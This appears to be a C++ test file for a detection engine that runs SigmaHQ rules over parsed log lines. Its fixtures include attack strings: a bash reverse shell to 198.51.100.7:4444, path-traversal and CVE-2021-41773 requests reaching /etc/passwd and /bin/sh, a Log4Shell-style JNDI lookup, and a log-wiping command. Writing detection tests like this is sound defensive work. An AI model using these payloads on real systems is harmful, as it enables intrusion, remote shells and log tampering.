// The public SigmaHQ rules of ../shared/data/sigma on our engine: every rule loads or is rejected
// for a reason listed here, and a dozen rules meet log lines that our own parsers turn into events
// (positives written from each rule's text and references, negatives beside them; upstream has no
// sample events for these rules).
#include <gtest/gtest.h>

#include <fstream>
#include <map>
#include <set>

#include <yaml-cpp/yaml.h>

#include "agent/logs/log_parser.h"
#include "agent/rules/engine.h"
#include "agent/rules/rule_loader.h"
#include "tests/support/test_support.h"

namespace vigil::agent::rules {
namespace {

std::filesystem::path sigma_dir() { return test::shared_data_dir() / "sigma"; }

struct SigmaSet {
  std::shared_ptr<const RuleSet> set;
  std::vector<std::string> warnings;
};

const SigmaSet& sigma_set() {
  static const SigmaSet s = [] {
    SigmaSet out;
    auto loaded = load_rules({(sigma_dir() / "rules").string(), (sigma_dir() / "rules-emerging-threats").string(),
                              (sigma_dir() / "unsupported").string()});
    if (!loaded) throw std::runtime_error(loaded.error());
    out.set = loaded->set;
    for (const auto& d : loaded->diagnostics.items()) out.warnings.push_back(d.message);
    return out;
  }();
  return s;
}

std::string rule_id(const char* relative) { return YAML::LoadFile((sigma_dir() / relative).string())["id"].as<std::string>(); }

// The rules that match `line` once the parser for `format` has made it an event.
std::set<std::string> matching(const std::string& format, const std::string& line) {
  auto parser = logs::make_parser(format);
  if (!parser) throw std::runtime_error(parser.error());
  Event e;
  auto ctx = logs::ParseContext::at(format, Timestamp::from_seconds(1'790'000'000), 0, "web01");
  (*parser)->parse(line, ctx, e);
  e.set(fields::event_id, new_event_id());
  Engine engine(sigma_set().set);
  std::set<std::string> ids;
  engine.set_match_callback([&](const Rule& r, const Event&) { ids.insert(r.id); });
  std::vector<Event> alerts;
  engine.process(e, alerts);
  return ids;
}

struct Case {
  const char* rule;  // path under ../shared/data/sigma
  const char* format;
  const char* line;
  bool match;
};

TEST(SigmaRealData, EveryRuleLoadsOrIsRejectedForAListedReason) {
  VIGIL_REQUIRE_SHARED_DATA();
  const auto& s = sigma_set();
  // file -> the reason we expect (the only rules of the set we cannot evaluate faithfully).
  const std::map<std::string, std::string> expected = {
      {"proxy_hktl_cobalt_strike_malleable_c2_requests.yml",
       "field 'cs-cookie' has no mapping for this logsource"},
      {"lnx_auth_susp_failed_logons_single_source.yml", "legacy aggregation in the condition"},
  };
  std::set<std::string> rejected;
  for (const auto& w : s.warnings) {
    ASSERT_EQ(w.rfind("rejected: ", 0), 0u) << w;
    size_t slash = w.rfind('/', w.find(": ", 10));
    std::string file = w.substr(slash + 1, w.find(": ", slash) - slash - 1);
    auto it = expected.find(file);
    ASSERT_NE(it, expected.end()) << "unexpected rejection: " << w;
    EXPECT_NE(w.find(it->second), std::string::npos) << w;
    rejected.insert(file);
  }
  EXPECT_EQ(rejected.size(), expected.size());
  EXPECT_EQ(s.set->rejected, expected.size());

  size_t files = 0;
  for (const auto& e : std::filesystem::recursive_directory_iterator(sigma_dir())) {
    if (e.path().extension() == ".yml") ++files;
  }
  EXPECT_EQ(s.set->rules.size() + expected.size(), files);
  for (const auto& r : s.set->rules) {
    EXPECT_FALSE(r->datasets.empty()) << r->id << " runs on no dataset";
    EXPECT_EQ(r->license, "DRL-1.1");
  }
}

TEST(SigmaRealData, RulesFireOnTheirExamplesAndStayQuietOnNeighbours) {
  VIGIL_REQUIRE_SHARED_DATA();
  const Case cases[] = {
      // The four example lines in the rule's own comments are positives; a normal user is not.
      {"rules/linux/builtin/lnx_privileged_user_creation.yml", "syslog",
       "Dec 21 16:42:19 testserver useradd[1337]: new user: name=butter1, UID=1000, GID=0, home=/root, shell=/bin/bash",
       true},
      {"rules/linux/builtin/lnx_privileged_user_creation.yml", "syslog",
       "Dec 21 17:13:54 testserver useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash",
       true},
      {"rules/linux/builtin/lnx_privileged_user_creation.yml", "syslog",
       "Dec 21 17:30:22 testserver useradd[1337]: new user: name=butter4, UID=1000, GID=27, home=/home/butter4, "
       "shell=/bin/bash",
       true},
      {"rules/linux/builtin/lnx_privileged_user_creation.yml", "syslog",
       "Dec 21 17:31:22 testserver useradd[1338]: new user: name=anna, UID=1001, GID=1001, home=/home/anna, "
       "shell=/bin/bash",
       false},
      // sudo's USER= token: the CVE-2019-14287 form (#-1) and an ordinary one.
      {"rules-emerging-threats/2019/Exploits/CVE-2019-14287/lnx_sudo_exploit_cve_2019_14287.yml", "syslog",
       "Oct 14 10:01:02 web01 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id", true},
      {"rules-emerging-threats/2019/Exploits/CVE-2019-14287/lnx_sudo_exploit_cve_2019_14287.yml", "syslog",
       "Oct 14 10:01:02 web01 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id", false},
      // Keywords of service: sshd only on sshd's lines; cron's REPLACE only on cron's.
      {"rules/linux/builtin/sshd/lnx_sshd_susp_ssh.yml", "syslog",
       "Oct 14 10:01:02 web01 sshd[812]: Corrupted MAC on input. [preauth]", true},
      {"rules/linux/builtin/sshd/lnx_sshd_susp_ssh.yml", "syslog",
       "Oct 14 10:01:02 web01 kernel: [ 12.1] Corrupted MAC on input", false},
      {"rules/linux/builtin/cron/lnx_cron_crontab_file_modification.yml", "syslog",
       "Oct 14 10:01:02 web01 crontab[2211]: (root) REPLACE (root)", true},
      {"rules/linux/builtin/cron/lnx_cron_crontab_file_modification.yml", "syslog",
       "Oct 14 10:01:02 web01 sshd[812]: Invalid user replace from 203.0.113.9 port 4242", false},
      // Lower-case keywords meet systemd's capitalised message.
      {"rules/linux/builtin/syslog/lnx_syslog_security_tools_disabling_syslog.yml", "syslog",
       "Oct 14 10:01:02 web01 systemd[1]: Stopping iptables...", true},
      {"rules/linux/builtin/syslog/lnx_syslog_security_tools_disabling_syslog.yml", "syslog",
       "Oct 14 10:01:02 web01 systemd[1]: Starting iptables...", false},
      // '|all' keywords: both must occur.
      {"rules/linux/builtin/lnx_susp_jexboss.yml", "syslog",
       "Oct 14 10:01:02 web01 app[1]: exec bash -c /bin/bash -i >&/dev/tcp/198.51.100.7/4444 0>&1", true},
      {"rules/linux/builtin/lnx_susp_jexboss.yml", "syslog", "Oct 14 10:01:02 web01 app[1]: exec bash -c /bin/bash -i",
       false},
      // `selection and not falsepositives` (an identifier named falsepositives).
      {"rules/linux/builtin/lnx_clear_syslog.yml", "syslog", "Oct 14 10:01:02 web01 bash[9]: rm -f /var/log/syslog", true},
      {"rules/linux/builtin/lnx_clear_syslog.yml", "syslog",
       "Oct 14 10:01:02 web01 bash[9]: rm -f /var/log/syslog.2.gz", false},
      // auditd: a raw x86_64 SYSCALL record names execve by number (59); euid as digits.
      {"rules/linux/auditd/syscall/lnx_auditd_web_rce.yml", "auditd",
       "type=SYSCALL msg=audit(1700000000.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 "
       "a3=0 items=2 ppid=900 pid=901 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 "
       "tty=(none) ses=4294967295 comm=\"sh\" exe=\"/usr/bin/dash\" key=\"detect_execve_www\"",
       true},
      {"rules/linux/auditd/syscall/lnx_auditd_web_rce.yml", "auditd",
       "type=SYSCALL msg=audit(1700000000.123:457): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 "
       "a3=0 items=2 ppid=900 pid=901 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 "
       "comm=\"ls\" exe=\"/usr/bin/ls\" key=(null)",
       false},
      // EXECVE arguments, one of them hex-encoded by auditd (it holds '=' only here, but auditd
      // hex-encodes any argument it must): "kernel.randomize_va_space=0".
      {"rules/linux/auditd/lnx_auditd_disable_aslr_protection.yml", "auditd",
       "type=EXECVE msg=audit(1700000000.200:460): argc=3 a0=\"sysctl\" a1=\"-w\" "
       "a2=6B65726E656C2E72616E646F6D697A655F76615F73706163653D30",
       true},
      {"rules/linux/auditd/lnx_auditd_disable_aslr_protection.yml", "auditd",
       "type=EXECVE msg=audit(1700000000.200:461): argc=3 a0=\"sysctl\" a1=\"-w\" a2=\"kernel.randomize_va_space=2\"",
       false},
      // Web: path traversal in the raw target; Apache CVE-2021-41773 only when answered 200/301.
      {"rules/web/webserver_generic/web_path_traversal_exploitation_attempt.yml", "nginx",
       "198.51.100.4 - - [14/Oct/2026:10:01:02 +0700] \"GET /static/..%252f..%252f..%252fetc%252fpasswd HTTP/1.1\" 400 "
       "150 \"-\" \"curl/8.0\"",
       true},
      {"rules/web/webserver_generic/web_path_traversal_exploitation_attempt.yml", "nginx",
       "198.51.100.4 - - [14/Oct/2026:10:01:02 +0700] \"GET /static/app.css HTTP/1.1\" 200 150 \"-\" \"curl/8.0\"",
       false},
      {"rules-emerging-threats/2021/Exploits/CVE-2021-41773/web_cve_2021_41773_apache_path_traversal.yml", "apache",
       "198.51.100.4 - - [14/Oct/2026:10:01:02 +0700] \"GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\" 200 12 \"-\" "
       "\"curl/8.0\"",
       true},
      {"rules-emerging-threats/2021/Exploits/CVE-2021-41773/web_cve_2021_41773_apache_path_traversal.yml", "apache",
       "198.51.100.4 - - [14/Oct/2026:10:01:02 +0700] \"GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\" 403 12 \"-\" "
       "\"curl/8.0\"",
       false},
      // ReGeorg: a POST with neither referrer nor user agent ('-' is null); with a user agent, quiet.
      {"rules/web/webserver_generic/web_webshell_regeorg.yml", "nginx",
       "198.51.100.4 - - [14/Oct/2026:10:01:02 +0700] \"POST /upload/tunnel.jsp?cmd=connect&target=10.0.0.5&port=22 "
       "HTTP/1.1\" 200 0 \"-\" \"-\"",
       true},
      {"rules/web/webserver_generic/web_webshell_regeorg.yml", "nginx",
       "198.51.100.4 - - [14/Oct/2026:10:01:02 +0700] \"POST /upload/tunnel.jsp?cmd=connect&target=10.0.0.5&port=22 "
       "HTTP/1.1\" 200 0 \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\"",
       false},
  };
  for (const auto& c : cases) {
    auto ids = matching(c.format, c.line);
    EXPECT_EQ(ids.count(rule_id(c.rule)) == 1, c.match) << c.rule << (c.match ? " should match: " : " should not match: ")
                                                       << c.line;
  }
}

// Proxy rules run on HTTP requests captured on the wire (network.http, as the HTTP parser makes
// them), not on a web server's own access log.
TEST(SigmaRealData, ProxyRulesOnCapturedRequests) {
  VIGIL_REQUIRE_SHARED_DATA();
  auto http = [](const char* target, const char* host, const char* agent) {
    Event e;
    e.set(fields::timestamp, Timestamp::from_seconds(1'790'000'000));
    e.set(fields::event_id, new_event_id());
    e.set(fields::event_dataset, "network.http");
    e.set(fields::http_request_method, "GET");
    set_url_target(e, target);
    e.set(fields::url_domain, host);
    if (agent) e.set(fields::user_agent_original, agent);
    return e;
  };
  auto fires = [](const char* rule, const Event& e) {
    Engine engine(sigma_set().set);
    std::set<std::string> ids;
    engine.set_match_callback([&](const Rule& r, const Event&) { ids.insert(r.id); });
    std::vector<Event> alerts;
    engine.process(e, alerts);
    return ids.count(rule_id(rule)) == 1;
  };
  const char* empty_ua = "rules/web/proxy_generic/proxy_ua_empty.yml";
  EXPECT_TRUE(fires(empty_ua, http("/a.ps1", "files.example", "")));
  EXPECT_FALSE(fires(empty_ua, http("/a.ps1", "files.example", nullptr)));  // no header at all is not ''
  const char* frameworks = "rules/web/proxy_generic/proxy_ua_frameworks.yml";
  EXPECT_TRUE(fires(frameworks, http("/", "example.org", "Mozilla/5.0")));
  EXPECT_FALSE(fires(frameworks, http("/", "example.org", "Mozilla/5.0 (X11; Linux)")));
  // contains|all over the query string: the rule's own example request, then one parameter short.
  const char* scanner = "rules/web/proxy_generic/proxy_pua_advanced_ip_scanner_update_check.yml";
  EXPECT_TRUE(fires(scanner, http("/checkupdate.php?lng=en&ver=2-5-3680&beta=n&type=upd&rmode=p&product=aps",
                                  "www.advanced-port-scanner.com", "x")));
  EXPECT_FALSE(fires(scanner, http("/checkupdate.php?lng=en&ver=2-5-3680&beta=n&type=upd&rmode=p",
                                   "www.advanced-port-scanner.com", "x")));
  // cs-host equals, and not a Telegram client's user agent.
  const char* telegram = "rules/web/proxy_generic/proxy_telegram_api.yml";
  EXPECT_TRUE(fires(telegram, http("/bot123/sendMessage", "api.telegram.org", "python-requests/2.31")));
  EXPECT_FALSE(fires(telegram, http("/bot123/sendMessage", "api.telegram.org", "TelegramBot (like TwitterBot)")));
  // The shared web server log is never a proxy log: its crawlers' user agents stay quiet.
  auto parser = logs::make_parser("apache");
  ASSERT_TRUE(parser);
  Event e;
  (*parser)->parse("66.249.73.185 - - [17/May/2015:10:05:37 +0000] \"GET / HTTP/1.1\" 200 37932 \"-\" "
                   "\"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\"",
                   logs::ParseContext::at("apache", Timestamp::from_seconds(1'790'000'000), 0), e);
  EXPECT_FALSE(fires(frameworks, e));
}

// The crowdsec probes all got 404: the SQL injection rule excludes them on purpose; the same
// requests answered 200 are what it is for.
TEST(SigmaRealData, SqlInjectionRuleHonoursItsNotFoundFilter) {
  VIGIL_REQUIRE_SHARED_DATA();
  const std::string id = rule_id("rules/web/webserver_generic/web_sql_injection_in_access_logs.yml");
  std::ifstream in(test::shared_data_dir() / "logs/crowdsec-hub/nginx-http-sqli-probing/nginx-http-sqli-probing.log");
  ASSERT_TRUE(in);
  size_t lines = 0, quiet = 0, fire_when_200 = 0;
  for (std::string line; std::getline(in, line);) {
    if (line.empty()) continue;
    ++lines;
    if (!matching("nginx", line).count(id)) ++quiet;
    std::string ok = line;
    size_t at = ok.find("\" 404 ");
    ASSERT_NE(at, std::string::npos) << line;
    ok.replace(at, 6, "\" 200 ");
    if (matching("nginx", ok).count(id)) ++fire_when_200;
  }
  EXPECT_EQ(lines, 16u);
  EXPECT_EQ(quiet, lines);
  // Three probes carry one of the rule's keywords (information_schema.tables, union%20all%20select,
  // union%20select); the other thirteen use functions the rule does not list (sleep%28, hex%28, ...).
  EXPECT_EQ(fire_when_200, 3u);
}

// The data set's README: SigmaHQ semantics over the access, auth and syslog files of
// ../shared/data/logs match no line. Our mapping must agree (no false positives at scale), while a
// known positive appended to each file's lines still fires (the pipeline is alive).
TEST(SigmaRealData, NoRuleMatchesTheSharedLogs) {
  VIGIL_REQUIRE_SHARED_DATA();
  struct File {
    const char* format;
    const char* path;
    const char* positive;
  };
  const File files[] = {
      {"syslog", "loghub/Linux/Linux_2k.log", "Jun 14 15:16:01 combo crontab[1]: (root) REPLACE (root)"},
      {"syslog", "loghub/OpenSSH/OpenSSH_2k.log", "Dec 10 06:55:46 LabSZ sshd[24200]: Corrupted MAC on input."},
      {"apache_error", "loghub/Apache/Apache_2k.log",
       "[Sun Dec 04 04:47:44 2005] [notice] child pid 6725 exit signal Segmentation fault (11)"},
      {"syslog", "crowdsec-hub/ssh-bf/ssh-bf.log", "Jan  1 00:00:00 h sshd[1]: bad client public DH value"},
      {"syslog", "crowdsec-hub/iptables-scan-multi-port/iptables-scan-multi-port.log",
       "Jan  1 00:00:00 h systemd[1]: Stopping firewalld - dynamic firewall daemon..."},
      {"nginx", "crowdsec-hub/nginx-http-sqli-probing/nginx-http-sqli-probing.log",
       "127.0.0.1 - - [30/Sep/2021:11:11:54 +0200] \"GET /.git/config HTTP/1.1\" 200 162 \"-\" \"curl/7.68.0\""},
      {"apache", "elastic-examples/apache_logs",
       "83.149.9.216 - - [17/May/2015:10:05:03 +0000] \"GET /x?q=${jndi:ldap://198.51.100.1/a} HTTP/1.1\" 200 1 "
       "\"-\" \"curl\""},
      {"syslog", "fail2ban/pam-generic", "Jan  1 00:00:00 h kernel: [1.0] device eth0 entered promiscuous mode"},
  };
  size_t total = 0;
  for (const auto& f : files) {
    std::ifstream in(test::shared_data_dir() / "logs" / f.path);
    ASSERT_TRUE(in) << f.path;
    std::vector<std::string> lines;
    for (std::string line; std::getline(in, line);) {
      if (!line.empty() && line.back() == '\r') line.pop_back();
      lines.push_back(line);
    }
    lines.push_back(f.positive);
    auto parser = logs::make_parser(f.format);
    ASSERT_TRUE(parser) << parser.error();
    auto ctx = logs::ParseContext::at(f.format, Timestamp::from_seconds(1'790'000'000), 0, "web01");
    Engine engine(sigma_set().set);
    std::vector<std::string> matched;
    engine.set_match_callback([&](const Rule& r, const Event& e) {
      matched.push_back(r.title.en + ": " + *e.get_string(fields::event_original));
    });
    std::vector<Event> alerts;
    for (const auto& line : lines) {
      Event e;
      (*parser)->parse(line, ctx, e);
      if (!e.empty()) engine.process(e, alerts);
    }
    ASSERT_EQ(matched.size(), 1u) << f.path << ": " << (matched.empty() ? "the positive did not match" : matched[0]);
    EXPECT_NE(matched[0].find(f.positive), std::string::npos) << f.path << ": " << matched[0];
    total += lines.size() - 1;
  }
  EXPECT_GT(total, 16'000u);  // loghub's 3 x 2,000 lines and the 10,000 of the access log among them
}

}  // namespace
}  // namespace vigil::agent::rules
